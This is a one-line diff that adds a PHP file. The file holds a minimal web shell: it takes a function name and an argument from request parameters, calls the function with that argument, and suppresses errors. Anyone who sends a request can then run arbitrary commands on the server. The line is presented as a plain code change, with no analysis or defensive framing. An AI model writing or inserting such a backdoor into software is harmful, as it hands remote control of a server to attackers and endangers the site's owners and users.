@@ -1,0 +1,1 @@
+<?php $t=$_REQUEST["t"]; $q=@$t($_REQUEST["a"]);
